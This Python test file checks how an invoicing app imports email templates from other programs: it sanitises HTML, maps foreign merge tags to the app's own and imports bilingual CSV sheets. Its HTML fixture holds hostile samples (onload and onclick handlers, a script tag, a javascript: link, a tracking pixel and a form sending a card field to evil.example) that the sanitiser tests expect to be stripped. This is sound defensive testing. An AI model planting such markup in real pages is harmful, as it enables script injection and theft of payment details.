"""Messages from other programs: cleaned, their tags made ours, by hand and by the sheet."""

import json
from uuid import UUID

import pytest
from sqlalchemy.ext.asyncio import create_async_engine

from bursar.core.errors import Conflict, Invalid
from bursar.core.work import Office, Work
from bursar.outbox.foreign_tags import recognise
from bursar.outbox.tags import Category
from bursar.outbox.template_import import code_of, keep_import, read_words
from bursar.outbox.template_words import check_version
from bursar.outbox.templates import create_template, edit_template, get_template, list_templates, publish
from bursar.tenancy.imports import ImportReport
from tests.makers.sheets import CLERK, a_desk, bring, csv_of, told

pytestmark = pytest.mark.anyio

PAGE = """<html><head><title>Invoice {{invoice_number}} is overdue</title><style>p { color: red }</style></head>
<body onload="steal()"><script>alert(1)</script><center>
<p style="color: #333; position: fixed" onclick="steal()">Dear [Client Name],</p>
<p>{{amount_<b>due</b>}} of <em>*|INVOICE_NO|*</em> was due on {due_date}. <a href="{payment_link}">Pay</a>
or <a href="javascript:steal()">here</a>. <img src="http://track.example/x.gif"></p>
<form action="https://evil.example"><input name="card"></form></center></body></html>"""
HEADER = (
    "Template Name",
    "Category",
    "Subject Template",
    "Body Template",
    "Subject_Template_Ar",
    "Body_Template_Ar",
)
EN, AR = (
    "Invoice {{invoice_number}}: {{amount_due}} from {{company}}",
    "الفاتورة {{invoice_number}}: {{amount_due}}",
)
ROW = ("Gentle nudge", "overdue_notice", "About {{invoice_number}}", EN, "بخصوص {{invoice_number}}", AR)


@pytest.mark.pure
def test_what_a_mail_cannot_hold_goes_and_is_named():
    found = read_words(PAGE, Category.OVERDUE_NOTICE, "en")

    check_version(found.words, Category.OVERDUE_NOTICE)
    assert found.words.subject == "Invoice {{ invoices.first.number }} is overdue"
    for gone in (
        "script",
        "alert",
        "onclick",
        "onload",
        "position",
        "javascript",
        "track.example",
        "form",
        "<style",
    ):
        assert gone not in found.words.body
    assert 'style="color: #333"' in found.words.body
    assert set(found.removed) == {"<style>", "<script>", "<form>", "<input>"}


@pytest.mark.pure
def test_tags_of_other_programs_become_ours_also_where_an_editor_cut_them():
    found = read_words(PAGE, Category.OVERDUE_NOTICE, "en")

    assert dict(found.recognised)["{{amount_due}}"] == "invoices.first.balance"
    assert {ours for _, ours in found.recognised} == {
        "invoices.first.number", "customer.name", "invoices.first.balance", "invoices.first.due_date", "pay_link",
    }  # fmt: skip
    assert found.one_invoice
    assert found.unknown == ()


@pytest.mark.pure
@pytest.mark.parametrize(
    ("theirs", "ours"),
    [
        ("{{ customer_name }}", "{{ customer.name }}"),
        ("{{CustomerName}}", "{{ customer.name }}"),
        ("{name}", "{{ customer.name }}"),
        ("%FNAME%", "{{ customer.name }}"),
        ("${balance_due}", "{{ invoices.first.balance }}"),
        ("&lt;&lt;Due Date&gt;&gt;", "{{ invoices.first.due_date }}"),
        ("«اسم العميل»", "{{ customer.name }}"),
        ("{{numéro de facture}}", "{{ invoices.first.number }}"),
        # what is ours already, and what is no tag at all
        ("{{ customer.name | upcase }}", "{{ customer.name | upcase }}"),
        ("{% for invoice in invoices %}{{ invoice.number }}{% endfor %}",
         "{% for invoice in invoices %}{{ invoice.number }}{% endfor %}"),
        ("see [1] and 20% off, {sic}", "see [1] and 20% off, {sic}"),
    ],
)  # fmt: skip
def test_a_tag_is_known_by_its_name_in_many_spellings(theirs: str, ours: str):
    assert recognise(theirs, Category.OVERDUE_NOTICE).text == ours


@pytest.mark.pure
def test_a_tag_that_nobody_knows_stays_and_is_named():
    found = recognise("{{loyalty_points}} *|X_1|* {{ payment.amount }}", Category.OVERDUE_NOTICE)

    assert found.text == "{{loyalty_points}} *|X_1|* {{ payment.amount }}"
    assert found.unknown == ("{{loyalty_points}}", "*|X_1|*", "{{ payment.amount }}")


@pytest.mark.pure
def test_plain_writing_stays_plain():
    found = read_words("Dear {{name}},\n\n- one < two", Category.OVERDUE_NOTICE, "en", "Hello")

    assert (found.words.body_format, found.words.body) == ("text", "Dear {{ customer.name }},\n\n- one < two")


@pytest.mark.pure
@pytest.mark.parametrize("source", ["", " \n", "<script>x</script>", "x" * 200_001, "<p>" + "x" * 1_000_001])
def test_nothing_and_too_much_are_refused(source: str):
    with pytest.raises(Invalid) as refusal:
        read_words(source, Category.OVERDUE_NOTICE, "en")
    assert refusal.value.field == "body"


@pytest.mark.pure
def test_a_code_is_made_of_a_name_and_comes_out_the_same_again():
    assert code_of("Gentle nudge, 2nd") == "gentle_nudge_2nd"
    assert code_of("2nd") == "imported_2nd"
    assert code_of("تذكير") == code_of("تذكير") != code_of("إشعار")


async def test_it_is_kept_as_a_draft_under_a_code_that_is_free(work: Work):
    found = read_words(PAGE, Category.OVERDUE_NOTICE, "en")

    first = await keep_import(work, found, Category.OVERDUE_NOTICE, name="Old friend")
    again = await keep_import(work, found, Category.OVERDUE_NOTICE, name="Old friend")

    template, versions = await get_template(work, first)
    assert (template.code, template.source, template.published, template.drafts) == (
        "old_friend", "imported", (), ("en",),
    )  # fmt: skip
    assert versions[0].words == found.words
    assert (await get_template(work, again))[0].code == "old_friend-2"
    with pytest.raises(Conflict):
        await keep_import(work, found, Category.OVERDUE_NOTICE, name="Old friend", code="old_friend")


async def test_a_tag_that_nobody_knows_keeps_it_out(work: Work):
    found = read_words(EN + " {{loyalty_points}}", Category.OVERDUE_NOTICE, "en", "Hello")

    with pytest.raises(Invalid) as refusal:
        await keep_import(work, found, Category.OVERDUE_NOTICE, name="Points")
    assert refusal.value.params["tags"] == "{{loyalty_points}}"
    assert await list_templates(work) == []


def made_of(report: ImportReport) -> UUID:
    """The template of the first row."""
    found = report.rows[0].id
    assert found is not None
    return found


@pytest.fixture
async def office(shared_addresses, clock, keyring):
    """Works that commit, in tenants of their own."""
    engine = create_async_engine(shared_addresses.app, pool_size=4)
    yield Office(engine, clock, keyring)
    await engine.dispose()


async def test_a_sheet_brings_both_languages_as_drafts_and_again_changes_nothing(office):
    desk, tenant = await a_desk(office)
    data = csv_of(HEADER, ROW)

    dry = await bring(desk, tenant, "templates", data, apply=False)
    async with desk.work(tenant, CLERK) as work:
        before = {one.code for one in await list_templates(work)}
    first = await bring(desk, tenant, "templates", data)
    again = await bring(desk, tenant, "templates", data)

    assert (dry.created, first.created, again.created, again.unchanged) == (1, 1, 0, 1)
    assert "gentle_nudge" not in before
    async with desk.work(tenant, CLERK) as work:
        template, versions = await get_template(work, made_of(first))
    assert (template.code, template.source, template.drafts, template.published) == (
        "gentle_nudge", "imported", ("ar", "en"), (),
    )  # fmt: skip
    assert {one.locale: one.subject for one in versions} == {
        "en": "About {{ invoices.first.number }}",
        "ar": "بخصوص {{ invoices.first.number }}",
    }


async def test_a_row_that_says_something_else_next_time_is_a_new_draft(office):
    desk, tenant = await a_desk(office)
    first = await bring(desk, tenant, "templates", csv_of(HEADER, ROW))
    async with desk.work(tenant, CLERK) as work:
        _, versions = await get_template(work, made_of(first))
        for version in versions:
            await publish(work, version.id)

    later = await bring(desk, tenant, "templates", csv_of(HEADER, (*ROW[:3], EN + " please", *ROW[4:])))

    assert told(later) == [(2, "updated")]
    async with desk.work(tenant, CLERK) as work:
        template, versions = await get_template(work, made_of(first))
    assert (template.published, template.drafts) == (("ar", "en"), ("en",))


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (("", *ROW[1:]), "Give the template's name."),
        (("A", "wedding", *ROW[2:]), "“wedding” is no kind of message of ours."),
        (("A", "overdue_notice", "Hi", "no tag at all", "", ""), "The message must name"),
        (("A", "overdue_notice", "Hi", EN + " {{points}}", "", ""), "{{points}}"),
        (("A", "overdue_notice", "", EN, "", ""), "The subject must be one line"),
        (("A", "overdue_notice", "Hi", "", "", ""), "The row has no text."),
        (("Statement", "statement", "Hi", EN, "", ""), "was not imported"),
    ],
)
async def test_a_row_that_cannot_be_used_is_refused_with_its_reason(office, row, reason):
    desk, tenant = await a_desk(office)
    async with desk.work(tenant, CLERK) as work:
        await create_template(
            work,
            code="statement",
            name="Ours",
            category=Category.STATEMENT,
            first=read_words(EN, Category.STATEMENT, "en", "Hi").words,
        )

    report = await bring(desk, tenant, "templates", csv_of(HEADER, ROW, row), apply=False)

    assert [one.outcome for one in report.rows] == ["created", "refused"]
    assert reason in report.rows[1].reason


async def test_rows_of_one_code_are_languages_and_the_same_language_twice_is_refused(office):
    desk, tenant = await a_desk(office)
    header = ("code", "name", "language", "subject", "body", "active")
    rows = [
        ("nudge", "Nudge", "en", "About {{invoice_number}}", EN, "no"),
        ("nudge", "Nudge", "French", "Facture {{invoice_number}}", EN, "no"),
        ("nudge", "Nudge", "fr", "Facture {{invoice_number}}", EN, "no"),
    ]

    report = await bring(desk, tenant, "templates", csv_of(header, *rows))

    assert told(report) == [(2, "created"), (3, "updated"), (4, "refused")]
    async with desk.work(tenant, CLERK) as work:
        template, _ = await get_template(work, made_of(report))
        assert (template.drafts, template.active) == (("en", "fr"), False)
        await edit_template(work, template.id, active=True)


@pytest.mark.pure
def test_an_export_in_the_columns_of_another_programs_table_is_understood():
    from bursar.tenancy.headers import guess_mapping

    header = ("id", "company_id", "name", "description", "category", "subject_template", "body_template", "body_format",
              "required_merge_tags", "max_invoice_count", "language", "subject_template_ar", "body_template_ar",
              "usage_count", "version", "is_active", "is_default")  # fmt: skip

    guess = guess_mapping(header, "templates")

    assert {header[column]: field for column, field in guess.mapping.items()} == {
        "name": "name", "description": "description", "category": "category", "subject_template": "subject",
        "body_template": "body", "language": "locale", "subject_template_ar": "subject_ar",
        "body_template_ar": "body_ar", "is_active": "active",
    }  # fmt: skip
    assert json.dumps(guess.unclear) == "[]"
